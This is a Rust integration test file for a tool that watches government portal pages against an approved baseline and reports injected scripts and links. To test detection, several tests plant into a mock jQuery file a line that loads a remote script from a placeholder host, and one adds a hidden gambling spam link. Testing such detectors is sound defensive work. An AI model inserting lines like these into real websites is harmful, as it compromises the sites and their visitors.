//! The approved state of a portal as operators live with it, with the real binary.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test that panics has failed")]

mod program;
mod web;

use std::{
    fs,
    path::PathBuf,
    sync::{Arc, Mutex},
};

use program::canhcong;
use serde_json::Value;
use tempfile::TempDir;
use web::{Answer, Web};

/// A portal of four pages and a library, each of which a test can change.
struct Portal {
    folder: TempDir,
    address: String,
    _web: Web,
    library: Arc<Mutex<String>>,
    footer: Arc<Mutex<String>>,
}

impl Portal {
    fn new() -> Self {
        let library = Arc::new(Mutex::new("window.jQuery = function () { return 1 };".to_owned()));
        let footer = Arc::new(Mutex::new(String::new()));
        let (code, foot) = (Arc::clone(&library), Arc::clone(&footer));
        let web = Web::serve(move |request| {
            let foot = foot.lock().unwrap();
            let page = |title: &str| {
                Answer::html(format!(
                    "<html lang=vi><head><title>{title}</title><script src=/jquery.js></script></head>\
                     <body><ul id=menu><li><a href=/>Trang chủ</a><li><a href=/tin>Tin</a>\
                     <li><a href=/van-ban>Văn bản</a><li><a href=/lien-he>Liên hệ</a></ul>\
                     <p>{title}: hội nghị tổng kết năm của Ủy ban nhân dân huyện</p>\
                     <div id=chan><a href=https://bao.example/>Báo tỉnh</a>{foot}</div></body></html>"
                ))
            };
            match request.path.as_str() {
                "/" => page("UBND huyện Tuần Giáo"),
                "/tin" => page("Tin tức"),
                "/van-ban" => page("Văn bản"),
                "/lien-he" => page("Liên hệ"),
                "/jquery.js" => {
                    let body = code.lock().unwrap().clone();
                    Answer::of("text/javascript", body)
                }
                _ => Answer::not_found(),
            }
        });
        let folder = TempDir::new().unwrap();
        let portal = format!(
            "[[portal]]\nid = \"tuan-giao\"\nname = \"UBND huyện Tuần Giáo\"\nurl = \"{}\"\n\
             requests_per_second = 1000\npages = 8\n",
            web.url("/")
        );
        fs::write(folder.path().join("targets.toml"), portal).unwrap();
        Self { folder, address: web.url("/"), _web: web, library, footer }
    }

    /// What the program says on both outputs, and its exit code.
    fn run(&self, arguments: &[&str]) -> (String, Option<i32>) {
        let usual = ["--allow-private", "--rate", "1000", "--no-run-scripts"];
        let output = canhcong(self.folder.path(), &[arguments, &usual].concat());
        let said = [output.stdout, output.stderr].concat();
        (String::from_utf8(said).unwrap(), output.status.code())
    }

    fn learned_and_approved() -> Self {
        let portal = Self::new();
        let (said, code) =
            portal.run(&["baseline", "learn", "tuan-giao", "--looks", "2", "--every", "0"]);
        assert_eq!(code, Some(0), "{said}");
        let (said, code) = portal.run(&["baseline", "approve", "tuan-giao", "--by", "Trần An"]);
        assert_eq!(code, Some(0), "{said}");
        portal
    }

    /// Rule and severity of what a night found, and what it noted.
    fn night(&self) -> (Vec<(String, String)>, String) {
        let (said, _) = self.run(&["nightly", "--format", "json", "-q"]);
        let report: Value = serde_json::from_str(&said).unwrap_or_else(|e| panic!("{e}: {said}"));
        let portal = &report["portals"][0];
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let found = portal["findings"].as_array().unwrap();
        let found = found.iter().map(|own| (text(&own["rule"]), text(&own["severity"])));
        (found.collect(), portal["coverage"].to_string())
    }

    fn file(&self, name: &str) -> PathBuf {
        self.folder.path().join("baselines/tuan-giao").join(name)
    }
}

#[test]
fn what_is_new_is_found_shown_approved_in_part_and_quiet_from_then_on() {
    let portal = Portal::learned_and_approved();
    assert!(portal.night().0.is_empty());
    *portal.footer.lock().unwrap() = "<a href=https://doi-tac.example/>Đối tác</a>".to_owned();
    portal.library.lock().unwrap().push_str(
        "var s=document.createElement('script');s.src='https://nap.example/a.js';document.head.append(s)",
    );
    let (found, _) = portal.night();
    let is = |rule: &str, severity: &str| (rule.to_owned(), severity.to_owned());
    assert!(found.contains(&is("changed-script", "high")), "{found:?}");
    assert!(found.iter().any(|(rule, _)| rule == "injected-link"), "{found:?}");
    let (diff, code) = portal.run(&["baseline", "diff", "tuan-giao"]);
    assert_eq!(code, Some(1));
    // What was put into the library is shown, and where; not the library.
    let put_in = "+ var s=document.createElement('script');s.src='hxxps://nap[.]example/a.js'";
    assert!(diff.contains("1:42") && diff.contains(put_in), "{diff}");
    assert!(!diff.contains("window.jQuery"), "{diff}");
    for part in ["doi-tac[.]example", "/jquery.js", "nap[.]example", "+   \"doi-tac[.]example\""] {
        assert!(diff.contains(part), "{part} is not in {diff}");
    }
    let link = diff.lines().find(|line| line.contains("new link")).unwrap();
    let id = link.split(' ').next().unwrap();
    let before = fs::read_to_string(portal.file("baseline.toml")).unwrap();
    let (said, code) =
        portal.run(&["baseline", "approve", "tuan-giao", "--by", "Lò Thị Bình", "--only", id]);
    assert_eq!(code, Some(0), "{said}");
    let after = fs::read_to_string(portal.file("baseline.toml")).unwrap();
    let new: Vec<&str> = after.lines().filter(|line| !before.contains(line)).collect();
    assert_eq!(new, ["version = 2", "  \"doi-tac.example\","]);
    let (found, _) = portal.night();
    assert!(found.contains(&is("changed-script", "high")), "{found:?}");
    assert!(!found.iter().any(|(rule, _)| rule == "injected-link"), "{found:?}");
    let (shown, _) = portal.run(&["baseline", "show", "tuan-giao"]);
    assert!(shown.contains("Trần An") && shown.contains("version 2: Lò Thị Bình"), "{shown}");
}

#[test]
fn an_edited_state_is_named_and_nothing_is_healed_by_it() {
    let portal = Portal::learned_and_approved();
    *portal.footer.lock().unwrap() = "<a href=https://doi-tac.example/>Đối tác</a>".to_owned();
    assert!(!portal.night().0.is_empty());
    let state = fs::read_to_string(portal.file("baseline.toml")).unwrap();
    let edited = state.replace("bao.example", "khac.example");
    fs::write(portal.file("baseline.toml"), edited).unwrap();
    let (said, code) = portal.run(&["check"]);
    assert_eq!(code, Some(2));
    assert!(said.contains("baselines/tuan-giao/baseline.toml:"), "{said}");
    let (_, coverage) = portal.night();
    assert!(coverage.contains("not compared with the approved state"), "{coverage}");
    let (list, _) = portal.run(&["incidents", "list"]);
    assert!(list.contains("injected-link") && !list.contains("clean night"), "{list}");
    // Nobody approves over a state that was tampered with.
    let (said, code) = portal.run(&["baseline", "approve", "tuan-giao", "--by", "Trần An"]);
    assert_eq!(code, Some(2), "{said}");
    fs::write(portal.file("baseline.toml"), state).unwrap();
    assert!(!portal.night().0.is_empty());
}

#[test]
fn a_look_that_nobody_remembers_knows_what_is_approved() {
    let portal = Portal::learned_and_approved();
    portal
        .library
        .lock()
        .unwrap()
        .push_str("document.write('<script src=https://nap.example/a.js></'+'script>')");
    let address = portal.address.clone();
    let (said, code) = portal.run(&["scan", &address, "-q"]);
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("changed-script"), "{said}");
}

#[test]
fn what_was_put_into_a_known_library_is_the_evidence() {
    let portal = Portal::learned_and_approved();
    let library = portal.library.lock().unwrap().clone();
    let planted = "document.write('<script src=https://nap.example/a.js></'+'script>')";
    *portal.library.lock().unwrap() = format!("{library}\n/* 3.7.1 */\n{planted}");
    let (said, _) = portal.run(&["nightly", "--format", "json", "-q"]);
    let report: Value = serde_json::from_str(&said).unwrap();
    let found = report["portals"][0]["findings"].as_array().unwrap();
    let changed = found.iter().find(|own| own["rule"] == "changed-script").unwrap();
    let excerpt = changed["excerpt"].as_str().unwrap();
    assert!(excerpt.starts_with("/jquery.js 2:1 + /* 3.7.1 */"), "{excerpt}");
    assert!(excerpt.contains(planted), "{excerpt}");
    // The look after, which learns nothing of it, shows the same.
    let (again, _) = portal.run(&["nightly", "--format", "json", "-q"]);
    assert!(again.contains("/jquery.js 2:1"), "{again}");
}

#[test]
fn what_is_only_new_does_not_stand_in_the_way_of_the_first_approval() {
    let portal = Portal::new();
    portal.run(&["baseline", "learn", "tuan-giao", "--looks", "1"]);
    *portal.footer.lock().unwrap() = "<script src=https://dem.example/a.js></script>".to_owned();
    let (found, _) = portal.night();
    assert!(found.iter().any(|(rule, severity)| rule == "new-script" && severity == "high"));
    let (said, code) = portal.run(&["baseline", "approve", "tuan-giao", "--by", "Trần An"]);
    assert_eq!(code, Some(0), "{said}");
    assert!(portal.night().0.is_empty());
}

#[test]
fn a_portal_with_something_planted_is_not_approved() {
    let portal = Portal::new();
    *portal.footer.lock().unwrap() = "<div style=\"position:absolute;left:-9999px\">\
        <a href=https://nha-cai.example/>nhà cái uy tín</a></div>"
        .to_owned();
    portal.run(&["baseline", "learn", "tuan-giao", "--looks", "1"]);
    let (said, code) = portal.run(&["baseline", "approve", "tuan-giao", "--by", "Trần An"]);
    assert_eq!(code, Some(2), "{said}");
    assert!(said.contains("hidden-link"), "{said}");
    assert!(!portal.file("baseline.toml").exists());
}
